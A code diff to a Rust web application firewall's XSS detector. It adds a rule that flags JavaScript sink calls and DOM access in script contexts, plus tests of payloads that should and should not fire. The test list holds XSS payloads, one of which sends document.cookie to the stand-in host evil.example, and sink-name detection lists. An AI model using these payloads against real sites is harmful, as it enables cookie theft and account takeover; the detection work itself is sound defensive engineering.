@@ -6,7 +6,15 @@
 //! libinjection only judges markup, so a bare `javascript:alert(1)` (a payload for `href`
 //! and redirect parameters) passes it; rule 100201 covers that case like CRS 941170: a
 //! `javascript:` or `vbscript:` scheme (browsers ignore tabs and newlines inside it) at the
-//! start of a word, followed later by a call or property access character.
+//! start of a word, followed later by a call or property access character; `data:text/html`
+//! counts as such a scheme.
+//!
+//! A payload written into a script (`';alert(1)//`, a JSONP `callback=alert(document.domain)`)
+//! has no markup either. Rule 100202 covers it like CRS 941390/941180, more narrowly: a call of
+//! `alert`, `prompt`, `confirm`, `eval`, `setTimeout`, `setInterval` or `fromCharCode` with an
+//! argument, or `document.cookie`, `document.domain`, `document.write` or `window.location`,
+//! that starts the value or follows code punctuation (`' " ; ( = + , .` …), not a word: "set an
+//! alert (daily)" passes.
 
 use std::borrow::Cow;
 
@@ -26,22 +34,110 @@ pub const XSS_LIBINJECTION: u32 = 100200;
 /// Rule id: a `javascript:` or `vbscript:` URI carrying code.
 pub const XSS_SCRIPT_URI: u32 = 100201;
 
+/// Rule id: a JavaScript sink call or DOM access in a script context.
+pub const XSS_SCRIPT_CALL: u32 = 100202;
+
 const MSG: &str = "XSS Attack Detected via libinjection";
 const MSG_SCRIPT_URI: &str = "XSS using a javascript: or vbscript: URI";
+const MSG_SCRIPT_CALL: &str = "XSS: JavaScript call or DOM access in a script context";
+
+/// JavaScript functions an injected script calls first, lower case.
+const SINK_CALLS: [&str; 7] = [
+    "alert",
+    "prompt",
+    "confirm",
+    "eval",
+    "settimeout",
+    "setinterval",
+    "fromcharcode",
+];
+/// DOM properties an injected script reads or writes, lower case.
+const SINK_PROPERTIES: [&str; 5] = [
+    "document.cookie",
+    "document.domain",
+    "document.write",
+    "document.location",
+    "window.location",
+];
+/// Bytes that may come right before a sink in injected code (spaces skipped).
+const CODE_CONTEXT: &[u8] = b"'\";(=+-*/|&,{[!?:>`.~%^";
 
 /// URI schemes that run script, lower case.
-const SCRIPT_SCHEMES: [&[u8]; 2] = [b"javascript:", b"vbscript:"];
+const SCRIPT_SCHEMES: [&[u8]; 3] = [b"javascript:", b"vbscript:", b"data:text/html"];
 /// Bytes that show code after a script scheme (as CRS 941170 requires).
 const CODE_BYTES: &[u8] = b"=\\([.<`";
 
-/// The libinjection XSS detector.
-#[derive(Debug, Default)]
-pub struct Xss;
+/// The libinjection XSS detector, with the script URI and script call checks.
+#[derive(Debug)]
+pub struct Xss {
+    sinks: aho_corasick::AhoCorasick,
+}
 
 impl Xss {
     /// Builds the detector.
     pub fn new() -> Xss {
-        Xss
+        let sinks = aho_corasick::AhoCorasick::builder()
+            .ascii_case_insensitive(true)
+            .build(SINK_CALLS.iter().chain(&SINK_PROPERTIES))
+            .expect("a small literal set");
+        Xss { sinks }
+    }
+
+    /// A finding when the transformed `value` is XSS by libinjection, a script URI or a
+    /// script call.
+    fn check(&self, value: &[u8], variable: impl FnOnce() -> String) -> Option<Finding> {
+        if !may_hold_xss(value) {
+            return None;
+        }
+        let value = transformed(value);
+        let (rule_id, msg) = if is_xss(&value) {
+            (XSS_LIBINJECTION, MSG)
+        } else if has_script_uri(&value) {
+            (XSS_SCRIPT_URI, MSG_SCRIPT_URI)
+        } else if self.has_script_call(&value) {
+            (XSS_SCRIPT_CALL, MSG_SCRIPT_CALL)
+        } else {
+            return None;
+        };
+        Some(Finding::new(
+            rule_id,
+            msg,
+            Severity::Critical,
+            variable(),
+            &value,
+        ))
+    }
+
+    /// True when `value` calls a sink with an argument, or names a sink property, where code
+    /// would: at its start or after code punctuation.
+    fn has_script_call(&self, value: &[u8]) -> bool {
+        if memchr::memchr3(b'(', b'`', b'.', value).is_none() {
+            return false;
+        }
+        self.sinks.find_iter(value).any(|m| {
+            let before = value[..m.start()].trim_ascii_end();
+            let in_code = match before.last() {
+                None => true,
+                Some(b) => CODE_CONTEXT.contains(b),
+            };
+            let word_start = value[..m.start()].last().map_or(true, |b| {
+                !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b'$'))
+            });
+            let after = &value[m.end()..];
+            let called = match after {
+                [b'(', next, ..] => *next != b')',
+                [b'`', ..] => true,
+                _ => false,
+            };
+            let is_call = m.pattern().as_usize() < SINK_CALLS.len();
+            in_code && word_start && (called || !is_call)
+        })
+    }
+}
+
+impl Default for Xss {
+    fn default() -> Self {
+        Xss::new()
     }
 }
 
@@ -56,13 +152,13 @@ impl Detector for Xss {
         let from = out.len();
         for target in injection_targets(inputs) {
             deadline.check()?;
-            if let Some(f) = check(target.value, || target.variable()) {
+            if let Some(f) = self.check(target.value, || target.variable()) {
                 push_once(out, from, f);
             }
         }
         deadline.check()?;
         let path = percent_decode(req.path(), false);
-        if let Some(f) = check(&path, || "REQUEST_FILENAME".into()) {
+        if let Some(f) = self.check(&path, || "REQUEST_FILENAME".into()) {
             out.push(f);
         }
         Ok(())
@@ -106,30 +202,11 @@ fn transformed(value: &[u8]) -> Cow<'_, [u8]> {
     apply(v, remove_nulls)
 }
 
-/// A finding when libinjection calls the transformed `value` XSS.
-fn check(value: &[u8], variable: impl FnOnce() -> String) -> Option<Finding> {
-    if !may_hold_xss(value) {
-        return None;
-    }
-    let value = transformed(value);
-    let (rule_id, msg) = if is_xss(&value) {
-        (XSS_LIBINJECTION, MSG)
-    } else if has_script_uri(&value) {
-        (XSS_SCRIPT_URI, MSG_SCRIPT_URI)
-    } else {
-        return None;
-    };
-    Some(Finding::new(
-        rule_id,
-        msg,
-        Severity::Critical,
-        variable(),
-        &value,
-    ))
-}
-
 /// True when `value` holds a script URI scheme at a word start followed by code.
 fn has_script_uri(value: &[u8]) -> bool {
+    if memchr::memchr(b':', value).is_none() {
+        return false;
+    }
     (0..value.len()).any(|i| {
         let at_word_start = i == 0 || value.get(i - 1).is_some_and(|b| !b.is_ascii_alphanumeric());
         at_word_start
@@ -202,7 +279,7 @@ mod tests {
                 }
             }
             assert!(!may_hold_xss(&v));
-            assert!(check(&v, String::new).is_none(), "{v:?}");
+            assert!(Xss::new().check(&v, String::new).is_none(), "{v:?}");
             assert!(!libinjectionrs::detect_xss(&v).is_injection(), "{v:?}");
         }
     }
@@ -285,6 +362,48 @@ mod tests {
         assert!(!has_script_uri(b"javascript: the good parts"));
         assert!(!has_script_uri(b"learnjavascript:alert(1)"));
         assert!(!has_script_uri(b"javascript"));
+    }
+
+    /// Payloads written into a script context, which hold no markup.
+    #[test]
+    fn script_context_calls_fire() {
+        for v in [
+            "';alert(String.fromCharCode(88,83,83))//",
+            "alert(document.domain)//",
+            "\";alert(1);//",
+            "'-alert(1)-'",
+            "';document.location='https://evil.example/?c='+document.cookie;//",
+            "expression(alert(1))",
+            "top.confirm`1`",
+            "1;eval(atob('YWxlcnQoMSk='))",
+            "\"+setTimeout('alert(1)')+\"",
+            "data:text/html,<b>hi</b>",
+        ] {
+            let found = inspect_query_value(&Xss::new(), v.as_bytes());
+            assert!(!found.is_empty(), "{v}");
+        }
+        let found = inspect_query_value(&Xss::new(), b"';alert(1)//");
+        assert_eq!(found[0].rule_id, XSS_SCRIPT_CALL);
+    }
+
+    /// Sink names in everyday text are words, not calls in code.
+    #[test]
+    fn sink_names_in_text_pass() {
+        for v in [
+            "Set an alert (daily) for price drops",
+            "Please confirm (by email) your order",
+            "Course eval (spring 2024)",
+            "prompt engineering: how to write a prompt",
+            "the alert() function",
+            "Don't forget: price alert",
+            "How does document.cookie work",
+            "Mr. Smith's alert(ness)",
+            "data:image/png;base64,iVBORw0KGgo=",
+            "My document.docx, version 2",
+        ] {
+            let found = inspect_query_value(&Xss::new(), v.as_bytes());
+            assert!(found.is_empty(), "{v}: {found:?}");
+        }
     }
 
     #[test]
